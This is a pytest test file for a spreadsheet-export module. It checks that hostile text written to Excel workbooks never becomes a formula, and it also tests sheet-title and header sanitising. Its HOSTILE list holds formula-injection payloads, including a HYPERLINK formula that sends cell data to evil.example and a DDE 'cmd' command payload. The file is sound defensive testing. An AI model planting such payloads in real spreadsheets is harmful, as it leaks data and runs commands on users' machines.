"""Every value written to a workbook is safe: never a formula, never a broken file.

Hostile text (formula prefixes, control characters, markup, right-to-left
marks, very long strings) is written in normal and in write-only (streaming)
mode and read back with openpyxl from a real file.
"""

from __future__ import annotations

import datetime as dt
import math
import string
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from resilian_desktop.documents.xlsx_parts.cells import (
    MAX_CELL_UNITS,
    clean_text,
    header_footer_text,
    set_cell,
    sheet_title,
    stream_value,
)
from resilian_desktop.documents.xlsx_parts.stream import Column, write_table

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 3 88 12 34 56",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "#N/A",
    "#REF!",
    '<b>R&D</b> <Alsace> & "Cie"',
    "\u202eevil\u202c",
    "\u200fعربي\u200e",
    "nul\x00byte\x01bell\x07vt\x0bff\x0c",
    "lone surrogate \ud800 here",
    "non-characters \ufffe\uffff",
    "x" * 40_000,
    "😀" * 20_000,  # two UTF-16 units each: over Excel's limit in units, not in characters
    "",
    " ",
    "=",  # a lone "=" is text for openpyxl; still guarded
]


def _expected(text: str) -> str:
    return clean_text(text)


def _read_back(path: Path) -> list[tuple[object, str, bool]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return [
        (cell.value, cell.data_type, bool(cell.quotePrefix))
        for row in sheet.iter_rows()
        for cell in row
    ]


def _no_formula_in_xml(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_hostile_text_written_normally_reads_back_as_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row, text in enumerate(HOSTILE, start=1):
        set_cell(sheet.cell(row=row, column=1), text)
    target = tmp_path / "hostile.xlsx"
    book.save(target)
    _no_formula_in_xml(target)
    read = dict(enumerate(_read_back(target), start=1))
    for row, text in enumerate(HOSTILE, start=1):
        expected = _expected(text)
        if not expected:
            continue
        value, data_type, quote = read[row]
        assert value == expected
        assert data_type == "s"
        assert quote == expected.startswith(("=", "+", "-", "@", "\t", "#"))


def test_hostile_text_streamed_reads_back_as_text(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    write_table(book, "Texte", [Column("Texte")], ([text] for text in HOSTILE))
    target = tmp_path / "hostile-stream.xlsx"
    book.save(target)
    _no_formula_in_xml(target)
    values = [v for v, _, _ in _read_back(target)]
    assert values[0] == "Texte"
    # An empty text is an empty cell.
    assert values[1:] == [_expected(t) or None for t in HOSTILE]


def test_long_text_is_cut_to_excels_limit_with_an_ellipsis() -> None:
    cut = clean_text("😀" * 20_000)
    units = len(cut.encode("utf-16-le")) // 2
    assert units <= MAX_CELL_UNITS
    assert cut.endswith("…")
    assert clean_text("x" * MAX_CELL_UNITS) == "x" * MAX_CELL_UNITS


def test_values_keep_their_real_type() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    paris = dt.timezone(dt.timedelta(hours=1))
    assert stream_value(sheet, 3) == 3
    assert stream_value(sheet, 2.5) == 2.5
    assert stream_value(sheet, math.nan) is None
    assert stream_value(sheet, math.inf) is None
    assert stream_value(sheet, dt.date(2026, 3, 12)) == dt.date(2026, 3, 12)
    assert stream_value(sheet, dt.datetime(2026, 3, 12, 9, tzinfo=paris)) == dt.datetime(
        2026, 3, 12, 9
    )
    assert stream_value(sheet, None) is None
    assert stream_value(sheet, True) is True


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(st.text(max_size=300), min_size=1, max_size=8))
def test_any_text_never_crashes_nor_becomes_a_formula(tmp_path: Path, texts: list[str]) -> None:
    target = tmp_path / "any.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row, text in enumerate(texts, start=1):
        set_cell(sheet.cell(row=row, column=1), text)
    book.save(target)
    streamed = Workbook(write_only=True)
    write_table(streamed, "Any", [Column("Texte")], ([t] for t in texts))
    streamed_target = tmp_path / "any-stream.xlsx"
    streamed.save(streamed_target)
    for path in (target, streamed_target):
        _no_formula_in_xml(path)
        for value, data_type, _ in _read_back(path):
            if value is not None:
                assert data_type == "s"
                assert isinstance(value, str)


@given(
    name=st.text(max_size=60),
    taken=st.lists(st.text(max_size=40), max_size=5),
)
def test_sheet_titles_are_valid_and_unique(name: str, taken: list[str]) -> None:
    title = sheet_title(name, taken)
    assert 1 <= len(title) <= 31
    assert not set(title) & set("[]:*?/\\")
    assert not title.startswith("'") and not title.endswith("'")
    assert title.casefold() not in {t.casefold() for t in taken}
    assert all(ch.isprintable() or ch == " " for ch in title)


def test_sheet_titles_made_from_meetings(tmp_path: Path) -> None:
    taken: list[str] = []
    for name in ["12/03/2026 Lean: [atelier] ?", "12/03/2026 Lean: [atelier] ?", "History", ""]:
        taken.append(sheet_title(name, taken))
    assert taken == [
        "12-03-2026 Lean (atelier)",
        "12-03-2026 Lean (atelier) (2)",
        "Feuille",
        "Feuille (2)",
    ]
    book = Workbook()
    for title in taken:
        book.create_sheet(title)
    book.save(tmp_path / "titles.xlsx")
    assert load_workbook(tmp_path / "titles.xlsx").sheetnames[1:] == taken


def test_header_and_footer_text_doubles_ampersands() -> None:
    assert header_footer_text("Tôlerie Wendling & Fils") == "Tôlerie Wendling && Fils"
    assert "\n" not in header_footer_text("ligne 1\nligne 2")
    assert len(header_footer_text("x" * 500, limit=100)) <= 100


@pytest.mark.parametrize("text", ["".join(string.printable), "a\r\nb\rc"])
def test_carriage_returns_become_line_feeds(text: str) -> None:
    assert "\r" not in clean_text(text)
